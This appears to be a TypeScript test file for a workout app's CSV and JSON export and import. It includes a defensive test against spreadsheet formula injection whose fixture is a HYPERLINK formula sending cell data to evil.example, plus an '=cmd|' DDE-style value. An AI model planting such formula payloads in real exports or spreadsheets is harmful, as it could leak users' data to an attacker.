import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ExportedWorkout } from '../../../../../shared/data-transfer/workout-export';
import { csvField, toCsv } from './csv-writer';
import { strongDate, workoutsToCsv, workoutsToJson } from './export-files';
import { parseImportFile } from './parse-import-file';

/** Issue 29: a weight & reps set holds no time and no distance. */
const untyped = { exerciseType: 'weight_reps', durationSeconds: null, distanceMeters: null } as const;

const workout: ExportedWorkout = {
  id: 'w1',
  name: 'Push, "heavy"',
  startTime: '2024-03-04T18:30:00.000Z',
  endTime: '2024-03-04T19:35:00.000Z',
  duration: 65,
  notes: 'line one\nline two',
  sets: [
    { exerciseId: 'e1', exerciseName: 'Bench Press', setNumber: 1, weight: 8818, reps: 10, isWarmup: true, isCompleted: true, setType: 'warmup' as const, ...untyped },
    { exerciseId: 'e1', exerciseName: 'Bench Press', setNumber: 2, weight: 17637, reps: 8, isWarmup: false, isCompleted: true, setType: 'normal' as const, ...untyped },
    { exerciseId: 'e2', exerciseName: 'Fly, cable', setNumber: 1, weight: null, reps: null, isWarmup: false, isCompleted: false, setType: 'normal' as const, ...untyped },
  ],
};

describe('the CSV writer', () => {
  it('quotes commas, quotes, line breaks and edge spaces, and nothing else', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField(null)).toBe('');
    expect(csvField(82.5)).toBe('82.5');
    expect(toCsv(['A', 'B'], [['1', 'x,y']])).toBe('A,B\r\n1,"x,y"\r\n');
  });

  it("writes Strong's header and one row per set, weights in the chosen unit", () => {
    const csv = workoutsToCsv([workout], 'kg');
    expect(csv.split('\r\n')[0]).toBe('Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,Distance,Seconds,Notes,Workout Notes,RPE');
    const rows = Papa.parse<string[]>(csv.trim()).data.slice(1);
    expect(rows).toEqual([
      [strongDate(workout.startTime), 'Push, "heavy"', '1h 5m', 'Bench Press', 'W', '40', '10', '', '', '', 'line one\nline two', ''],
      [strongDate(workout.startTime), 'Push, "heavy"', '1h 5m', 'Bench Press', '1', '80', '8', '', '', '', 'line one\nline two', ''],
      [strongDate(workout.startTime), 'Push, "heavy"', '1h 5m', 'Fly, cable', '1', '', '', '', '', '', 'line one\nline two', ''],
    ]);
    expect(Papa.parse<string[]>(workoutsToCsv([workout], 'lb').trim()).data[2]![5]).toBe('176.37');
  });

  it("writes a set's type as W, F or D, its RPE and its note in Strong's columns, and reads them back (issue 29)", () => {
    const marked: ExportedWorkout = {
      ...workout,
      sets: [
        { exerciseId: 'e1', exerciseName: 'Bench Press', setNumber: 1, weight: 17637, reps: 8, isWarmup: false, isCompleted: true, setType: 'normal', rpe: 7.5, ...untyped },
        { exerciseId: 'e1', exerciseName: 'Bench Press', setNumber: 2, weight: 17637, reps: 6, isWarmup: false, isCompleted: true, setType: 'failure', rpe: 10, note: '=cmd|x, grip "gone"', ...untyped },
        { exerciseId: 'e1', exerciseName: 'Bench Press', setNumber: 3, weight: 13228, reps: 8, isWarmup: false, isCompleted: true, setType: 'drop', ...untyped },
      ],
    };
    const csv = workoutsToCsv([marked], 'kg');
    const rows = Papa.parse<string[]>(csv.trim()).data.slice(1);
    expect(rows.map((row) => [row[4], row[9], row[11]])).toEqual([
      ['1', '', '7.5'],
      ['F', `'=cmd|x, grip "gone"`, '10'],
      ['D', '', ''],
    ]);

    expect(parseImportFile(csv, 'kg').workouts[0]!.exercises[0]!.sets).toEqual([
      { weight: 17637, reps: 8, isWarmup: false, rpe: 7.5 },
      { weight: 17637, reps: 6, isWarmup: false, setType: 'failure', rpe: 10, note: '=cmd|x, grip "gone"' },
      { weight: 13228, reps: 8, isWarmup: false, setType: 'drop' },
    ]);
  });

  it('reads back through the Strong importer as the same workout', () => {
    const back = parseImportFile(workoutsToCsv([workout], 'lb'), 'lb');
    expect(back.problems).toEqual([]);
    expect(back.workouts).toHaveLength(1);
    expect(back.workouts[0]).toMatchObject({ name: 'Push, "heavy"', startTime: workout.startTime, endTime: workout.endTime, notes: 'line one\nline two' });
    expect(back.workouts[0]!.exercises[0]!.sets).toEqual([
      { weight: 8818, reps: 10, isWarmup: true },
      { weight: 17637, reps: 8, isWarmup: false },
    ]);
  });

  it("puts a ' before every text a spreadsheet would run as a formula, and the importer takes it off again (issue 26)", () => {
    const formula = '=HYPERLINK("http://evil.example/leak?d="&A2,"Open")';
    const hostile: ExportedWorkout = {
      ...workout,
      name: '+Push',
      notes: '@everyone',
      sets: [
        { exerciseId: 'e1', exerciseName: formula, setNumber: 1, weight: 8818, reps: 10, isWarmup: false, isCompleted: true, setType: 'normal' as const, ...untyped },
        { exerciseId: 'e2', exerciseName: '-Dip', setNumber: 1, weight: 0, reps: 12, isWarmup: false, isCompleted: true, setType: 'normal' as const, ...untyped },
      ],
    };
    const csv = workoutsToCsv([hostile], 'kg');
    const rows = Papa.parse<string[]>(csv.trim()).data.slice(1);
    expect(rows.map((row) => [row[1], row[3], row[5], row[6], row[10]])).toEqual([
      ["'+Push", `'${formula}`, '40', '10', "'@everyone"],
      ["'+Push", "'-Dip", '0', '12', "'@everyone"],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const back = parseImportFile(csv, 'kg');
    expect(back.problems).toEqual([]);
    expect(back.workouts[0]).toMatchObject({ name: '+Push', notes: '@everyone' });
    expect(back.workouts[0]!.exercises.map((exercise) => exercise.name)).toEqual([formula, '-Dip']);
  });

  it('writes numbers as numbers: a negative one is not text and gets no quote', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
  });

  it('writes a workout without sets (Apple Health) as one row', () => {
    const health: ExportedWorkout = { ...workout, sets: [], health: { type: 'running', caloriesBurned: 300, distance: 5.2 } };
    const rows = Papa.parse<string[]>(workoutsToCsv([health], 'kg').trim()).data.slice(1);
    expect(rows).toEqual([[strongDate(workout.startTime), 'Push, "heavy"', '1h 5m', '', '', '', '', '5.2', '3900', '', 'line one\nline two', '']]);
  });
});

describe('the JSON export', () => {
  it('states its units and groups sets by exercise', () => {
    const json = JSON.parse(workoutsToJson([workout], 'kg', new Date('2025-01-01T00:00:00Z'))) as Record<string, unknown>;
    expect(json).toMatchObject({ format: 'workout-export', version: 1, weightUnit: 'kg', durationUnit: 'minutes', exportedAt: '2025-01-01T00:00:00.000Z' });
    expect(JSON.parse(workoutsToJson([{ ...workout, exerciseNotes: { e1: 'Seat at 4' }, sets: [{ ...workout.sets[1]!, setType: 'failure', rpe: 9, note: 'Slow' }] }], 'kg', new Date())).workouts[0].exercises).toEqual([
      { name: 'Bench Press', note: 'Seat at 4', sets: [{ setNumber: 2, weight: 80, reps: 8, isWarmup: false, isCompleted: true, setType: 'failure', rpe: 9, note: 'Slow', ...untyped }] },
    ]);
    // Issue 29: an exercise of a superset carries its letter; the CSV (Strong's layout) has no column for it.
    const grouped = { ...workout, supersetGroups: { e1: 'A', e2: 'A' } };
    expect(JSON.parse(workoutsToJson([grouped], 'kg', new Date())).workouts[0].exercises.map((exercise: { superset?: string }) => exercise.superset)).toEqual(['A', 'A']);
    expect(workoutsToCsv([grouped], 'kg')).toBe(workoutsToCsv([workout], 'kg'));
    expect(json.workouts).toEqual([
      {
        id: 'w1',
        name: 'Push, "heavy"',
        startTime: workout.startTime,
        endTime: workout.endTime,
        durationMinutes: 65,
        notes: 'line one\nline two',
        exercises: [
          {
            name: 'Bench Press',
            sets: [
              { setNumber: 1, weight: 40, reps: 10, isWarmup: true, isCompleted: true, setType: 'warmup' as const, ...untyped },
              { setNumber: 2, weight: 80, reps: 8, isWarmup: false, isCompleted: true, setType: 'normal' as const, ...untyped },
            ],
          },
          { name: 'Fly, cable', sets: [{ setNumber: 1, weight: null, reps: null, isWarmup: false, isCompleted: false, setType: 'normal' as const, ...untyped }] },
        ],
      },
    ]);
  });
});
